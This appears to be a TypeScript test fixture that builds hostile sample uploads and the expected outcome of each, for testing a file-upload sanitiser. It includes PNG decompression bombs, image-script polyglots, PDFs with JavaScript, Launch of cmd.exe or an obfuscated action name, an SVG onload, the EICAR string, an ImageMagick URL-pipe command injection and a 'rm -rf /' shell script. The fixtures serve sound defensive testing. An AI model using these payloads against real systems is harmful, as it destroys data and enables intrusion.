import { deflateSync } from "node:zlib";
import sharp from "sharp";

/** A file that somebody could send, and what must come of it: how it is kept, or what is wrong with it. */
export interface Sent {
  name: string;
  bytes: Uint8Array;
  becomes: "image/jpeg" | "application/pdf" | "missing" | "large" | "kind" | "damaged" | "active";
}

/** Stands in the files where nothing may be left of it. */
export const MARK = "SECRET-MARK-7f3a";
const text = (words: string) => Buffer.from(words, "utf8");
const join = (...parts: (string | Uint8Array)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === "string" ? text(part) : part)));

const picture = (width = 64, height = 48) =>
  sharp({ create: { width, height, channels: 3, background: { r: 90, g: 140, b: 200 } } });

const CRC = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc32 = (bytes: Uint8Array) =>
  (bytes.reduce((crc, byte) => (CRC[(crc ^ byte) & 0xff] as number) ^ (crc >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0;

function chunk(type: string, data: Uint8Array): Buffer {
  const head = Buffer.alloc(4);
  head.writeUInt32BE(data.byteLength);
  const body = join(type, data);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return join(head, body, sum);
}

/** A grey PNG of any size that packs to almost nothing. */
function pngBomb(width: number, height: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 8;
  const rows = Buffer.alloc(Math.min(height * (width + 1), 40_000_000));
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const end = chunk("IEND", Buffer.alloc(0));
  return join(signature, chunk("IHDR", head), chunk("IDAT", deflateSync(rows)), end);
}

/** A PDF of one page, with more in its catalogue and more objects. */
function pdf(catalogue = "", objects = ""): Buffer {
  return text(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalogue} >>\nendobj\n` +
      "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n" +
      `3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n${objects}` +
      "trailer\n<< /Root 1 0 R /Size 4 >>\nstartxref\n0\n%%EOF\n",
  );
}

function packed(inner: string): string {
  const body = deflateSync(text(inner)).toString("latin1");
  return `9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${body.length} >>\nstream\n${body}\nendstream\nendobj\n`;
}

const latin = (words: string) => Buffer.from(words, "latin1");
const pdfLatin = (objects: string) => latin(pdf("", "@@").toString("latin1").replace("@@", objects));

async function pictures(): Promise<Sent[]> {
  const exif = {
    IFD0: { Copyright: MARK, Make: "PhoneMaker", Artist: MARK },
    IFD3: { GPSLatitudeRef: "N", GPSLatitude: "31/1 14/1 0/1", GPSLongitudeRef: "E", GPSLongitude: "121/1 28/1 0/1" },
  };
  const jpeg = await picture().withExif(exif).jpeg().toBuffer();
  const png = await picture().png().toBuffer();
  const webp = await picture().webp().toBuffer();
  const frames = await sharp(Buffer.alloc(20 * 60 * 3, 120), {
    raw: { width: 20, height: 60, channels: 3, pageHeight: 20 },
  })
    .webp({ loop: 0 })
    .toBuffer();
  const half = (bytes: Buffer) => bytes.subarray(0, Math.floor(bytes.byteLength / 2));
  const big = await sharp({
    create: {
      width: 900,
      height: 700,
      channels: 3,
      background: "red",
      noise: { type: "gaussian", mean: 128, sigma: 60 },
    },
  })
    .jpeg()
    .toBuffer();
  const pngText = join(png.subarray(0, 33), chunk("tEXt", text(`Comment\0${MARK}`)), png.subarray(33));
  return [
    { name: "a photo with its place", bytes: jpeg, becomes: "image/jpeg" },
    {
      name: "a photo that lies on its side",
      bytes: await picture(60, 20).jpeg().withMetadata({ orientation: 6 }).toBuffer(),
      becomes: "image/jpeg",
    },
    { name: "a screenshot with words beside it", bytes: pngText, becomes: "image/jpeg" },
    { name: "a picture of a chat", bytes: webp, becomes: "image/jpeg" },
    { name: "a moving picture", bytes: frames, becomes: "image/jpeg" },
    {
      name: "a photo with a colour profile",
      bytes: await picture().withIccProfile("p3").jpeg().toBuffer(),
      becomes: "image/jpeg",
    },
    { name: "a long photo", bytes: await picture(6000, 500).jpeg().toBuffer(), becomes: "image/jpeg" },
    { name: "a grey one with a hole", bytes: await picture().ensureAlpha(0.2).png().toBuffer(), becomes: "image/jpeg" },
    { name: "JPEG with a page behind it", bytes: join(jpeg, `<script>${MARK}</script>`), becomes: "image/jpeg" },
    { name: "JPEG with a program behind it", bytes: join(jpeg, `<?php echo "${MARK}"; ?>`), becomes: "image/jpeg" },
    { name: "JPEG with an archive behind it", bytes: join(jpeg, "PK\x03\x04", MARK), becomes: "image/jpeg" },
    { name: "JPEG with a PDF behind it", bytes: join(jpeg, pdf(), MARK), becomes: "image/jpeg" },
    { name: "PNG with a page behind it", bytes: join(png, `<html>${MARK}`), becomes: "image/jpeg" },
    { name: "WebP with words behind it", bytes: join(webp, MARK), becomes: "image/jpeg" },
    { name: "a tenth of a JPEG", bytes: big.subarray(0, Math.floor(big.byteLength / 10)), becomes: "damaged" },
    { name: "half a JPEG", bytes: half(big), becomes: "damaged" },
    { name: "half a PNG", bytes: half(png), becomes: "damaged" },
    { name: "half a WebP", bytes: half(webp), becomes: "damaged" },
    { name: "the head of a JPEG", bytes: Buffer.from([0xff, 0xd8, 0xff, 0xe0]), becomes: "damaged" },
    {
      name: "JPEG head before a page",
      bytes: join(Buffer.from([0xff, 0xd8, 0xff, 0xe0]), `<html><script>${MARK}</script>`),
      becomes: "damaged",
    },
    { name: "PNG head before noise", bytes: join(png.subarray(0, 33), Buffer.alloc(500, 7)), becomes: "damaged" },
    {
      name: "PNG with a wrong sum",
      bytes: join(png.subarray(0, -14), Buffer.from([1, 2]), png.subarray(-12)),
      becomes: "damaged",
    },
    {
      name: "WebP head before a page",
      bytes: join("RIFF\x24\0\0\0WEBPVP8 ", `<svg onload="${MARK}">`),
      becomes: "damaged",
    },
    { name: "a bomb of 50,000 by 50,000", bytes: pngBomb(50_000, 50_000), becomes: "damaged" },
    { name: "a bomb of 1 by 2,000,000,000", bytes: pngBomb(1, 2_000_000_000), becomes: "damaged" },
    { name: "a bomb of 30,000 by 2,500", bytes: pngBomb(30_000, 2_500), becomes: "damaged" },
    { name: "GIF", bytes: await picture().gif().toBuffer(), becomes: "kind" },
    { name: "TIFF", bytes: await picture().tiff().toBuffer(), becomes: "kind" },
    { name: "AVIF", bytes: await picture().avif({ effort: 0 }).toBuffer(), becomes: "kind" },
  ];
}

function documents(): Sent[] {
  const javaScript = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
  const noise = "8 0 obj\n<< /Length 40 >>\nstream\nby chance /JS (x) /JavaScript /Launch here\nendstream\nendobj\n";
  return [
    { name: "a plain PDF", bytes: pdf(), becomes: "application/pdf" },
    { name: "PDF that opens at a page", bytes: pdf("/OpenAction [3 0 R /Fit]"), becomes: "application/pdf" },
    { name: "PDF with such letters in a picture", bytes: pdf("", noise), becomes: "application/pdf" },
    {
      name: "PDF with harmless packed objects",
      bytes: pdfLatin(packed("10 0 << /Type /Font >>")),
      becomes: "application/pdf",
    },
    { name: "PDF that runs at once", bytes: pdf(`/OpenAction ${javaScript}`), becomes: "active" },
    {
      name: "PDF that runs under a hidden name",
      bytes: pdf("/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
      becomes: "active",
    },
    { name: "PDF that runs in a packed object", bytes: pdfLatin(packed(`10 0 ${javaScript}`)), becomes: "active" },
    { name: "PDF that starts a program", bytes: pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), becomes: "active" },
    { name: "PDF that carries a file", bytes: pdf("/Names << /EmbeddedFiles 5 0 R >>"), becomes: "active" },
    {
      name: "PDF that sends a form",
      bytes: pdf("/AA << /O << /S /SubmitForm /F (https://x.example) >> >>"),
      becomes: "active",
    },
    { name: "PDF with a film", bytes: pdf("/Annots [<< /Subtype /RichMedia >>]"), becomes: "active" },
    { name: "PDF with a form of its own", bytes: pdf("/AcroForm << /XFA 5 0 R >>"), becomes: "active" },
    { name: "a locked PDF", bytes: pdf("/Encrypt 5 0 R"), becomes: "damaged" },
    {
      name: "PDF with a broken packed object",
      bytes: pdf("", "9 0 obj\n<< /Type /ObjStm >>\nstream\nnot packed\nendstream\nendobj\n"),
      becomes: "damaged",
    },
    { name: "PDF with a bomb in it", bytes: pdfLatin(packed("0".repeat(25_000_000))), becomes: "damaged" },
    { name: "half a PDF", bytes: pdf().subarray(0, 120), becomes: "damaged" },
    { name: "PDF with a page before it", bytes: join(`<html>${MARK}</html>`, pdf()), becomes: "kind" },
  ];
}

function others(): Sent[] {
  const kinds: [string, Uint8Array][] = [
    ["SVG with a script", text(`<svg xmlns="http://www.w3.org/2000/svg" onload="${MARK}"><script/></svg>`)],
    ["SVG behind an XML head", text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>')],
    ["HTML as PNG", text("<!doctype html><script>alert(1)</script>")],
    ["words", text("receipt.jpg")],
    ["zeros", Buffer.alloc(4096)],
    ["a ZIP", join("PK\x03\x04", Buffer.alloc(60))],
    ["a Windows program", join("MZ", Buffer.alloc(200))],
    ["a Linux program", join("\x7fELF", Buffer.alloc(200))],
    ["a script", text("#!/bin/sh\nrm -rf /\n")],
    ["PostScript", text("%!PS-Adobe-3.0\n(x) run")],
    ["the EICAR test file", text("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")],
    ["ImageMagick commands", text("push graphic-context\nfill 'url(https://x.example/|id)'\npop graphic-context")],
  ];
  return [
    ...kinds.map(([name, bytes]) => ({ name, bytes, becomes: "kind" as const })),
    { name: "nothing", bytes: new Uint8Array(), becomes: "missing" },
    {
      name: "more than 10 MB",
      bytes: join(Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(10_000_000)),
      becomes: "large",
    },
  ];
}

/** Everything that the test sends. */
export async function hostileFiles(): Promise<Sent[]> {
  return [...(await pictures()), ...documents(), ...others()];
}
